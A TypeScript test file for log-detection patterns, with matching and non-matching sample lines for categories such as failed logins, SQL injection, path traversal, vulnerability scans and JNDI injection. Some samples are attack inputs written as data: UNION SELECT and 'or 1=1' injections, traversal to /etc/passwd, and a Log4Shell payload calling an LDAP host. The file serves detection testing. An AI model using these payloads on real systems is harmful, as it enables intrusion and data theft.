import { SECURITY } from './security.ts';
import { testPatterns } from './testing/pattern-cases.ts';

testPatterns(SECURITY, {
  'login-failed': {
    explains: [
      'sshd[2213]: Failed password for root from 203.0.113.9 port 51812 ssh2',
      '{"event": "login failed", "user": "u4711", "client_ip": "203.0.113.41", "reason": "wrong password"}',
      'FATAL:  password authentication failed for user "shop"',
      'org.springframework.security.authentication.BadCredentialsException: Bad credentials',
    ],
    passes: [
      '{"event": "login succeeded", "user": "u4711"}',
      'login failed=0 login_ok=12',
      '0 failed login attempts since midnight',
      'no failed login',
    ],
  },
  'account-locked': {
    explains: [
      '{"event": "account locked", "user": "u4711", "failures": 12}',
      'error: maximum authentication attempts exceeded for root from 203.0.113.9 port 51812 ssh2 [preauth]',
      'Disconnecting: Too many authentication failures [preauth]',
    ],
    passes: ['account unlocked by admin', 'account locked: false', 'row locked for account 12'],
  },
  'break-in-attempt': {
    explains: [
      'sshd[24200]: reverse mapping checking getaddrinfo for ns.example.net [203.0.113.9] failed - POSSIBLE BREAK-IN ATTEMPT!',
      'sshd[24200]: Invalid user webmaster from 203.0.113.9',
    ],
    passes: ['invalid user input in field "name"', 'user from 203.0.113.9 logged in'],
  },
  'token-refused': {
    explains: [
      'JsonWebTokenError: jwt malformed',
      'TokenExpiredError: jwt expired',
      'io.jsonwebtoken.security.SignatureException: invalid signature',
      '{"error":"invalid_token"}',
    ],
    passes: [
      'token verified',
      'token expires in 300 s',
      'token expired=false',
      'SyntaxError: invalid or unexpected token',
    ],
  },
  'permission-denied': {
    explains: [
      "Error: EACCES: permission denied, open '/var/log/app.log'",
      'pods is forbidden: User "system:serviceaccount:shop:api" cannot list resource "pods"',
      'User: arn:aws:iam::1:role/api is not authorized to perform: s3:GetObject',
      'ERROR:  permission denied for table orders',
    ],
    passes: [
      'permission granted to role api',
      'permission denied: 0',
      'smoking is forbidden in this building',
    ],
  },
  'sql-injection-attempt': {
    explains: [
      '203.0.113.4 - - [21/Nov/2026:02:30:00 +0000] "GET /products?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 404 120',
      '203.0.113.4 - - [21/Nov/2026:02:30:00 +0000] "GET /login?user=x%27+or+1=1-- HTTP/1.1" 400 120',
      '203.0.113.4 - - [21/Nov/2026:02:30:00 +0000] "GET / HTTP/1.1" 200 12 "-" "sqlmap/1.8.2"',
    ],
    passes: [
      'LOG:  duration: 2.1 ms  statement: SELECT id FROM a UNION SELECT id FROM b',
      'LOG:  duration: 2.1 ms  statement: SELECT * FROM information_schema.tables WHERE 1=1',
      '10.0.0.1 - - "GET /union-selection HTTP/1.1" 200',
    ],
  },
  'path-traversal-attempt': {
    explains: [
      '203.0.113.4 - - [21/Nov/2026:02:30:00 +0000] "GET /static/../../../../etc/passwd HTTP/1.1" 400 150',
      '203.0.113.4 - - [21/Nov/2026:02:30:00 +0000] "GET /download?file=..%2f..%2fsecret HTTP/1.1" 404 150',
    ],
    passes: [
      "Error: Cannot resolve '../../lib/pool.ts' from src/api",
      'reading /etc/passwd for user names',
      'at Object.<anonymous> (../../node_modules/x/index.js:1:1)',
    ],
  },
  'vulnerability-scan': {
    explains: [
      '203.0.113.4 - - [21/Nov/2026:02:30:00 +0000] "GET /wp-login.php HTTP/1.1" 404 150',
      '203.0.113.4 - - [21/Nov/2026:02:30:00 +0000] "GET /.env HTTP/1.1" 404 150',
      '203.0.113.4 - - [21/Nov/2026:02:30:00 +0000] "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 150',
    ],
    passes: [
      'loaded settings from /app/.env',
      'GET /environment HTTP/1.1 200',
      'GET /administration HTTP/1.1 200',
    ],
  },
  'jndi-injection-attempt': {
    explains: [
      '"GET / HTTP/1.1" 200 "${jndi:ldap://203.0.113.4:1389/a}"',
      'User-Agent: ${${lower:j}ndi:ldap://x/a}',
    ],
    passes: ['looked up jndi name java:comp/env/jdbc/shop', 'JNDI datasource bound'],
  },
  'csrf-check-failed': {
    explains: [
      'ForbiddenError: invalid csrf token',
      'Forbidden (CSRF token missing.): /checkout',
      'ActionController::InvalidAuthenticityToken',
    ],
    passes: ['csrf protection enabled', 'csrf token issued', 'csrf=ok'],
  },
  'sudo-refused': {
    explains: [
      'sudo:   mira : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/mira ; USER=root ; COMMAND=/bin/sh',
      'sudo: jonas : 3 incorrect password attempts ; TTY=pts/1',
    ],
    passes: [
      'sudo: mira : TTY=pts/0 ; PWD=/home/mira ; USER=root ; COMMAND=/usr/bin/apt',
      'edited /etc/sudoers',
    ],
  },
});
